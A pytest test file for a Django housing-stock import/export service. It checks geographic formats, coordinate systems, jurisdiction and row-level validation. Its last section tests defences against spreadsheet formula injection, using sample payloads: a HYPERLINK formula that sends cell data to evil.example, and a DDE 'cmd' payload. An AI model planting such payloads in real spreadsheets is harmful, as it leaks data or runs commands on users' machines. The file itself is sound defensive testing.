"""Import and export of stock in every format, good files and bad, all or nothing."""

import csv
import io
import json
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from django.urls import reverse
from shapely.geometry import Point, Polygon

from archive.models import Event
from geo import crs, services
from geo.models import Estate, Region, Unit
from geo.stock_export import FORMATS, export_stock, template_workbook
from geo.stock_import import StockFileError, plan_stock_file

pytestmark = pytest.mark.django_db

QIAOCHENG_POINT = (115.790, 33.860)  # inside 谯城区's urban area
GUOYANG_POINT = (116.215, 33.505)  # in 涡阳县: outside a 谯城区 clerk's jurisdiction


def plan_for(user, path: Path, declared: str = "wgs84"):
    return plan_stock_file(
        path,
        declared,
        visible_estates=Estate.objects.visible_to(user),
        districts_in_scope=Region.objects.filter(level="district", adcode="341602")
        if not user.is_superuser
        else Region.objects.filter(level="district"),
    )


def rows(n: int, estate: str = "导入测试家园", point=QIAOCHENG_POINT, **overrides) -> list[dict]:
    out = []
    for i in range(n):
        floor, pos = divmod(i, 4)
        row = {
            "estate": estate,
            "address": "谯城区测试路1号",
            "building": f"{1 + floor // 18}号楼",
            "floors": 18,
            "elevator": "是",
            "unit": f"{floor % 18 + 1}{pos + 1:02d}",
            "floor": floor % 18 + 1,
            "rooms": 1 + pos % 2,
            "halls": 1,
            "baths": 1,
            "area": "45.5",
            "rent": "455",
            "orient": "南",
            "access": "否",
            "status": "空置",
        }
        row.update(overrides)
        out.append(row)
    return out


def geo_file(tmp_path: Path, records: list[dict], geoms, name: str, driver: str, crs_code=4326):
    gdf = gpd.GeoDataFrame(pd.DataFrame(records), geometry=geoms, crs=crs_code)
    path = tmp_path / name
    gdf.to_file(path, driver=driver, engine="pyogrio")
    return path


def zipped_shapefile(tmp_path: Path, records, geoms, crs_code=4326, with_prj=True) -> Path:
    folder = tmp_path / "shp"
    folder.mkdir()
    gdf = gpd.GeoDataFrame(pd.DataFrame(records), geometry=geoms, crs=crs_code)
    gdf.to_file(folder / "stock.shp", engine="pyogrio", encoding="UTF-8")
    path = tmp_path / "stock.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for part in folder.iterdir():
            if with_prj or part.suffix != ".prj":
                archive.write(part, part.name)
    return path


@pytest.fixture
def clerk(cast):
    return cast.users["district"]


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_export_then_import_round_trips_in_every_format(clerk, cast, fmt):
    estate = cast.inside["district"]
    units = Unit.objects.filter(building__estate=estate)
    path = export_stock(units, fmt)
    plan = plan_for(clerk, path)
    assert plan.ok, [str(p) for p in plan.errors[:5]]
    assert plan.row_count == units.count() == plan.existing_units
    assert plan.new_estates == []
    result = services.import_stock(plan, actor=clerk)
    assert result == {"estates": 0, "buildings": 0, "created": 0, "updated": 0}


def test_a_new_estate_from_geojson_points_lands_in_its_regions(clerk, tmp_path):
    path = geo_file(tmp_path, rows(8), [Point(*QIAOCHENG_POINT)] * 8, "new.geojson", "GeoJSON")
    plan = plan_for(clerk, path)
    assert plan.ok and plan.new_estates == ["导入测试家园"]
    result = services.import_stock(plan, actor=clerk)
    assert result["created"] == 8 and result["estates"] == 1
    estate = Estate.objects.get(name="导入测试家园")
    assert not estate.published, "imported estates wait for a department to publish them"
    assert estate.district.adcode == "341602" and estate.street and estate.community
    assert estate.community.boundary.intersects(estate.location)
    assert Event.objects.filter(estate_id=estate.pk, action="unit.created").count() == 8
    assert Unit.objects.get(building__estate=estate, number="101").orientation == "S"


def test_importing_again_updates_existing_units(clerk, tmp_path):
    first = geo_file(tmp_path, rows(4), [Point(*QIAOCHENG_POINT)] * 4, "a.geojson", "GeoJSON")
    services.import_stock(plan_for(clerk, first), actor=clerk)
    second = geo_file(
        tmp_path, rows(4, rent="500"), [Point(*QIAOCHENG_POINT)] * 4, "b.geojson", "GeoJSON"
    )
    plan = plan_for(clerk, second)
    assert plan.existing_units == 4
    result = services.import_stock(plan, actor=clerk)
    assert result["updated"] == 4 and result["created"] == 0
    assert set(
        Unit.objects.filter(building__estate__name="导入测试家园").values_list(
            "monthly_rent", flat=True
        )
    ) == {Decimal("500")}


def test_kml_and_geopackage_and_shapefile_with_footprints(clerk, tmp_path):
    x, y = QIAOCHENG_POINT
    footprint = Polygon([(x, y), (x + 0.0004, y), (x + 0.0004, y + 0.0001), (x, y + 0.0001)])
    for name, driver in [("s.gpkg", "GPKG"), ("s.kml", "KML")]:
        path = geo_file(tmp_path, rows(2, estate=f"面{name}"), [footprint] * 2, name, driver)
        plan = plan_for(clerk, path)
        assert plan.ok, [str(p) for p in plan.errors]
    path = zipped_shapefile(tmp_path, rows(2, estate="面shp"), [footprint] * 2)
    plan = plan_for(clerk, path)
    assert plan.ok, [str(p) for p in plan.errors]
    services.import_stock(plan, actor=clerk)
    building = Estate.objects.get(name="面shp").buildings.get()
    assert building.footprint is not None
    assert abs(building.footprint.area - footprint.area) < 1e-12


def test_a_truncated_zip_is_refused_as_a_whole(clerk, tmp_path):
    path = zipped_shapefile(tmp_path, rows(3), [Point(*QIAOCHENG_POINT)] * 3)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    with pytest.raises(StockFileError, match="无法读取"):
        plan_for(clerk, path)


def test_projected_coordinates_without_a_prj_are_refused_per_row(clerk, tmp_path):
    x, y = 12890000.0, 4007000.0  # web-mercator metres near Bozhou, with no .prj to say so
    path = zipped_shapefile(tmp_path, rows(3), [Point(x, y)] * 3, crs_code=3857, with_prj=False)
    plan = plan_for(clerk, path)
    assert not plan.ok
    assert len(plan.errors) == 3
    assert all("坐标超出经纬度范围" in p.message and p.row in (1, 2, 3) for p in plan.errors)


def test_a_declared_projected_crs_is_reprojected(clerk, tmp_path):
    path = geo_file(tmp_path, rows(2), [Point(*QIAOCHENG_POINT)] * 2, "proj.gpkg", "GPKG")
    gdf = gpd.read_file(path).to_crs(3857)
    gdf.to_file(path, driver="GPKG", engine="pyogrio")
    plan = plan_for(clerk, path)
    assert plan.ok
    assert plan.rows[0].geometry.x == pytest.approx(QIAOCHENG_POINT[0], abs=1e-7)


def test_geojson_in_metres_is_the_wrong_crs(clerk, tmp_path):
    path = tmp_path / "wrong.geojson"
    features = [
        {
            "type": "Feature",
            "properties": r,
            "geometry": {"type": "Point", "coordinates": [12890000, 4007000]},
        }
        for r in rows(2)
    ]
    path.write_text(
        json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8"
    )
    plan = plan_for(clerk, path)
    assert [p.row for p in plan.errors] == [1, 2]


def test_self_intersecting_polygon_is_rejected_with_the_reason(clerk, tmp_path):
    x, y = QIAOCHENG_POINT
    bow_tie = Polygon([(x, y), (x + 0.001, y + 0.001), (x + 0.001, y), (x, y + 0.001), (x, y)])
    good = Polygon([(x, y), (x + 0.001, y), (x + 0.001, y + 0.001), (x, y + 0.001)])
    path = geo_file(tmp_path, rows(2), [good, bow_tie], "bow.geojson", "GeoJSON")
    plan = plan_for(clerk, path)
    (error,) = plan.errors
    assert (
        error.row == 2 and "Self-intersection" in error.message and "无法自动修复" in error.message
    )
    with pytest.raises(services.NotAllowed):
        services.import_stock(plan, actor=clerk)
    assert not Estate.objects.filter(name="导入测试家园").exists(), "nothing half-written"


def test_a_repairable_polygon_is_repaired_with_a_warning(clerk, tmp_path):
    x, y = QIAOCHENG_POINT
    # A square with a spike drawn out and back along one edge: invalid, the spike has no area.
    spiky = Polygon(
        [
            (x, y),
            (x + 0.001, y),
            (x + 0.001, y + 0.001),
            (x + 0.0005, y + 0.001),
            (x + 0.0005, y + 0.0015),
            (x + 0.0005, y + 0.001),
            (x, y + 0.001),
            (x, y),
        ]
    )
    assert not spiky.is_valid
    path = geo_file(tmp_path, rows(1), [spiky], "spiky.geojson", "GeoJSON")
    plan = plan_for(clerk, path)
    assert plan.ok and plan.warnings and "已自动修复" in plan.warnings[0].message
    assert plan.rows[0].geometry.is_valid
    assert plan.rows[0].geometry.area == pytest.approx(spiky.area)


def test_spreadsheet_problems_name_the_row_and_the_field(clerk, tmp_path):
    table = pd.DataFrame(rows(4)).astype(str)
    table.loc[1, "area"] = "五十"  # text in a number field
    table.loc[2, "unit"] = table.loc[0, "unit"]  # a duplicate number
    table.loc[2, "building"] = table.loc[0, "building"]
    table.loc[3, "floor"] = ""
    table["经度"] = QIAOCHENG_POINT[0]
    table["纬度"] = QIAOCHENG_POINT[1]
    path = tmp_path / "bad.csv"
    table.to_csv(path, index=False, encoding="utf-8-sig")
    plan = plan_for(clerk, path)
    found = {(p.row, p.field) for p in plan.errors}
    assert (3, "面积") in found  # spreadsheet row 3 = second data row
    assert (4, "房号") in found
    assert (5, "楼层") in found
    assert any("不是数字" in p.message for p in plan.errors if p.row == 3)


def test_a_point_outside_the_jurisdiction_is_reported(clerk, tmp_path):
    path = geo_file(
        tmp_path, rows(2, estate="外县家园"), [Point(*GUOYANG_POINT)] * 2, "out.geojson", "GeoJSON"
    )
    plan = plan_for(clerk, path)
    assert not plan.ok
    assert all("不在您的管辖区域内" in p.message for p in plan.errors)


def test_gcj02_coordinates_land_within_metres_of_the_true_position(clerk, tmp_path):
    true_lon, true_lat = QIAOCHENG_POINT
    gcj = crs.wgs84_to_gcj02(true_lon, true_lat)
    table = pd.DataFrame(rows(1, estate="高德坐标家园"))
    table["经度"], table["纬度"] = gcj
    path = tmp_path / "gcj.xlsx"
    table.to_excel(path, index=False)
    plan = plan_for(clerk, path, "gcj02")
    assert plan.ok
    services.import_stock(plan, actor=clerk)
    location = Estate.objects.get(name="高德坐标家园").location
    assert crs_distance_m(location.x, location.y, true_lon, true_lat) < 1.0
    # Declared as WGS84 by mistake, the same numbers would be hundreds of metres off.
    assert crs_distance_m(gcj[0], gcj[1], true_lon, true_lat) > 300


def crs_distance_m(lon1, lat1, lon2, lat2) -> float:
    import math

    r = 6_371_000
    p1, p2 = math.radians(lat1), math.radians(lat2)
    dp, dl = p2 - p1, math.radians(lon2 - lon1)
    a = math.sin(dp / 2) ** 2 + math.cos(p1) * math.cos(p2) * math.sin(dl / 2) ** 2
    return 2 * r * math.asin(math.sqrt(a))


def test_a_ten_thousand_row_spreadsheet(clerk, tmp_path):
    table = pd.DataFrame(rows(10_000, estate="万套测试家园"))
    table["经度"], table["纬度"] = QIAOCHENG_POINT
    table = table.rename(columns={"estate": "项目名称", "unit": "房号", "area": "面积"})
    path = tmp_path / "big.xlsx"
    table.to_excel(path, index=False)
    started = time.perf_counter()
    plan = plan_for(clerk, path)
    assert plan.ok and plan.row_count == 10_000
    result = services.import_stock(plan, actor=clerk)
    elapsed = time.perf_counter() - started
    assert result["created"] == 10_000
    assert Unit.objects.filter(building__estate__name="万套测试家园").count() == 10_000
    print(f"10,000-row XLSX checked and imported in {elapsed:.1f} s")


def test_unknown_file_type_and_missing_columns(clerk, tmp_path):
    path = tmp_path / "stock.txt"
    path.write_text("hello")
    with pytest.raises(StockFileError, match="不支持的文件类型"):
        plan_for(clerk, path)
    path = tmp_path / "few.csv"
    pd.DataFrame([{"项目名称": "x", "经度": 1, "纬度": 2}]).to_csv(path, index=False)
    with pytest.raises(StockFileError, match="缺少必填列"):
        plan_for(clerk, path)


def test_the_template_reads_back_as_a_valid_file(clerk, tmp_path):
    path = tmp_path / "template.xlsx"
    template_workbook().save(path)
    plan = plan_for(clerk, path)
    assert plan.row_count == 1
    assert plan.ok, [str(p) for p in plan.errors]


def test_upload_preview_then_commit_through_the_back_office(client, clerk, tmp_path):
    client.force_login(clerk)
    path = geo_file(
        tmp_path,
        rows(3, estate="网页导入家园"),
        [Point(*QIAOCHENG_POINT)] * 3,
        "w.geojson",
        "GeoJSON",
    )
    with path.open("rb") as fh:
        preview = client.post(reverse("asset-import"), {"file": fh, "crs": "wgs84"})
    html = preview.content.decode()
    assert "共 3 行，可导入 3 行" in html and "确认导入" in html
    assert not Estate.objects.filter(name="网页导入家园").exists(), "a dry run writes nothing"
    token = html.split('name="token" value="')[1].split('"')[0]
    done = client.post(
        reverse("asset-import-commit"), {"token": token, "crs": "wgs84"}, follow=True
    )
    assert "导入完成" in done.content.decode()
    assert Unit.objects.filter(building__estate__name="网页导入家园").count() == 3


def test_upload_with_problems_shows_them_and_offers_no_commit(client, clerk, tmp_path):
    client.force_login(clerk)
    table = pd.DataFrame(rows(2, area="大"))
    table["经度"], table["纬度"] = QIAOCHENG_POINT
    buffer = io.BytesIO()
    table.to_csv(buffer, index=False, encoding="utf-8-sig")
    buffer.seek(0)
    buffer.name = "bad.csv"
    html = client.post(reverse("asset-import"), {"file": buffer, "crs": "wgs84"}).content.decode()
    assert "发现 2 个问题" in html and "确认导入" not in html


def test_export_downloads_and_streams(client, clerk):
    client.force_login(clerk)
    response = client.get(reverse("asset-export"), {"format": "csv"})
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # Excel reads UTF-8 with a BOM
    text = body.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("项目名称,地址,区县")
    expected = Unit.objects.visible_to(clerk).count()
    assert len(text.strip().splitlines()) == expected + 1
    other = Unit.objects.exclude(building__estate__district__adcode="341602").first()
    assert other.building.estate.name not in text


def test_command_line_import_checks_then_commits(clerk, tmp_path):
    from io import StringIO

    from django.core.management import CommandError, call_command

    path = geo_file(
        tmp_path,
        rows(5, estate="命令行家园"),
        [Point(*QIAOCHENG_POINT)] * 5,
        "c.geojson",
        "GeoJSON",
    )
    out = StringIO()
    call_command("import_stock", str(path), "--as", clerk.username, stdout=out, verbosity=0)
    assert "试运行" in out.getvalue() and not Estate.objects.filter(name="命令行家园").exists()
    call_command(
        "import_stock", str(path), "--as", clerk.username, "--commit", stdout=out, verbosity=0
    )
    assert Unit.objects.filter(building__estate__name="命令行家园").count() == 5
    bad = geo_file(
        tmp_path, rows(2, estate="外县家园"), [Point(*GUOYANG_POINT)] * 2, "x.geojson", "GeoJSON"
    )
    with pytest.raises(CommandError, match="2 个问题"):
        call_command(
            "import_stock",
            str(bad),
            "--as",
            clerk.username,
            "--commit",
            stdout=out,
            stderr=StringIO(),
            verbosity=0,
        )


def test_a_rent_sheet_without_statuses_keeps_every_status(clerk, cast, tmp_path):
    estate = cast.inside["district"]
    units = Unit.objects.filter(building__estate=estate)
    before = dict(units.values_list("pk", "status"))
    path = export_stock(units, "csv")
    table = pd.read_csv(path, dtype=str, encoding="utf-8-sig").drop(columns=["状态", "朝向"])
    table["月租金"] = "999"
    table.to_csv(path, index=False, encoding="utf-8-sig")
    plan = plan_for(clerk, path)
    assert plan.ok, [str(p) for p in plan.errors[:3]]
    services.import_stock(plan, actor=clerk)
    assert dict(units.values_list("pk", "status")) == before
    assert set(units.values_list("monthly_rent", flat=True)) == {Decimal("999")}


def test_an_import_cannot_empty_an_occupied_unit(clerk, cast, tmp_path):
    estate = cast.inside["district"]
    occupied = Unit.objects.filter(building__estate=estate, status="occupied").first()
    path = export_stock(Unit.objects.filter(pk=occupied.pk), "csv")
    table = pd.read_csv(path, dtype=str, encoding="utf-8-sig")
    table["状态"] = "空置"
    table.to_csv(path, index=False, encoding="utf-8-sig")
    plan = plan_for(clerk, path)
    (problem,) = plan.errors
    assert problem.row == 2 and problem.field == "状态" and "已入住" in problem.message


def test_blank_lines_keep_row_numbers(clerk, tmp_path):
    table = pd.DataFrame(rows(2)).astype(str)
    table.loc[1, "area"] = "abc"
    table["经度"], table["纬度"] = QIAOCHENG_POINT
    path = tmp_path / "blank.csv"
    text = table.to_csv(index=False)
    header, first, second = text.strip().split("\n")
    path.write_text(f"{header}\n{first}\n\n{second}\n", encoding="utf-8")
    plan = plan_for(clerk, path)
    assert [(p.row, p.field) for p in plan.errors] == [(4, "面积")]


def test_a_chinese_shift_on_top_of_a_projected_file_is_refused(clerk, tmp_path):
    path = geo_file(tmp_path, rows(1), [Point(*QIAOCHENG_POINT)], "p.gpkg", "GPKG")
    gpd.read_file(path).to_crs(3857).to_file(path, driver="GPKG", engine="pyogrio")
    with pytest.raises(StockFileError, match="投影坐标系"):
        plan_for(clerk, path, "gcj02")


def test_database_limits_are_reported_by_row(clerk, tmp_path):
    path = geo_file(
        tmp_path,
        rows(1, halls="12", unit="X" * 30),
        [Point(*QIAOCHENG_POINT)],
        "l.geojson",
        "GeoJSON",
    )
    found = {(p.row, p.field) for p in plan_for(clerk, path).errors}
    assert {(1, "厅"), (1, "房号")} <= found


# --- formula injection (issue 10, item 2) ------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def text_cells_xlsx(table: pd.DataFrame, path: Path) -> None:
    """Every cell a text cell, as Excel stores "=..." typed after a quote (pandas would write a
    live formula, which the importer reads as its cached value)."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for values in [list(table.columns), *table.astype(str).itertuples(index=False)]:
        sheet.append(list(values))
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    book.save(path)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize(
    ("key", "header", "value"),
    [
        ("estate", "项目名称", FORMULA),
        ("address", "地址", "+1+cmd|' /C calc'!A0"),
        ("building", "楼号", "-1+2"),
        ("unit", "房号", "@SUM(1)"),
        ("district", "区县", "\t=1+1"),
        ("estate", "项目名称", "'=1+1"),  # our own export's escape does not slip back in
    ],
)
def test_formula_cells_are_refused_naming_the_row_and_the_column(
    clerk, tmp_path, suffix, key, header, value
):
    table = pd.DataFrame(rows(4)).astype(str)
    table["district"] = "谯城区"
    table.loc[3, key] = value
    table["经度"], table["纬度"] = QIAOCHENG_POINT
    path = tmp_path / f"formula{suffix}"
    if suffix == ".csv":
        table.to_csv(path, index=False, encoding="utf-8-sig")
    else:
        text_cells_xlsx(table, path)
    plan = plan_for(clerk, path)
    (problem,) = plan.errors
    assert (problem.row, problem.field) == (5, header)
    assert str(problem) == f"第 5 行“{header}”：不能以 = + - @ 开头（可能是表格公式）"
    with pytest.raises(services.NotAllowed):
        services.import_stock(plan, actor=clerk)
    assert not Estate.objects.filter(name="导入测试家园").exists(), "all or nothing"


def test_negative_numbers_stay_numbers_on_import(clerk, tmp_path):
    table = pd.DataFrame(rows(1, floor="-1", floors="18")).astype(str)
    table["经度"], table["纬度"] = QIAOCHENG_POINT
    path = tmp_path / "basement.csv"
    table.to_csv(path, index=False, encoding="utf-8-sig")
    plan = plan_for(clerk, path)
    assert plan.ok, [str(p) for p in plan.errors]
    assert plan.rows[0].floor == -1


def test_control_characters_and_absurd_numbers_are_refused_by_row(clerk, tmp_path):
    table = pd.DataFrame(rows(3)).astype(str)
    table.loc[0, "estate"] = "导入\x00测试家园"
    table.loc[1, "rooms"] = "1e400000"  # int() of it takes seconds; of 1e999999999, forever
    table.loc[2, "area"] = "NaN"
    table["经度"], table["纬度"] = QIAOCHENG_POINT
    path = tmp_path / "control.csv"
    table.to_csv(path, index=False, encoding="utf-8-sig")
    started = time.perf_counter()
    found = {(p.row, p.field) for p in plan_for(clerk, path).errors}
    assert time.perf_counter() - started < 2
    assert {(2, "项目名称"), (3, "室"), (4, "面积")} <= found


@pytest.fixture
def hostile_estate(cast):
    """An estate whose name and a building number were typed in the back office as formulas."""
    estate = cast.inside["district"]
    Estate.objects.filter(pk=estate.pk).update(name=FORMULA)
    building = estate.buildings.order_by("pk").first()
    building.number = "-1+2"
    building.save(update_fields=["number"])
    return estate


def test_the_csv_export_neutralizes_formulas_and_keeps_numbers(clerk, hostile_estate):
    path = export_stock(Unit.objects.filter(building__estate=hostile_estate), "csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        records = list(csv.DictReader(fh))
    assert records and all(r["项目名称"] == "'" + FORMULA for r in records)
    assert any(r["楼号"] == "'-1+2" for r in records)
    assert all(not v.startswith(("=", "+", "-", "@")) for r in records for v in r.values())
    assert all(float(r["面积"]) > 0 and float(r["经度"]) > 0 for r in records)


def test_the_xlsx_export_has_no_formula_cells(clerk, hostile_estate):
    from openpyxl import load_workbook

    path = export_stock(Unit.objects.filter(building__estate=hostile_estate), "xlsx")
    sheet = load_workbook(path).active
    header = [c.value for c in sheet[1]]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    names = {row[header.index("项目名称")].value for row in sheet.iter_rows(min_row=2)}
    assert names == {"'" + FORMULA}
    areas = [row[header.index("面积")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and c.value > 0 for c in areas), "numbers stay numbers"


def test_the_back_office_download_is_neutralized_too(client, clerk, hostile_estate):
    client.force_login(clerk)
    response = client.get(
        reverse("asset-export"), {"format": "csv", "estate": str(hostile_estate.pk)}
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert f"'{FORMULA}".replace('"', '""') in text
    bad = client.get(reverse("asset-export"), {"format": "csv", "estate": "abc"})
    assert bad.status_code == 404
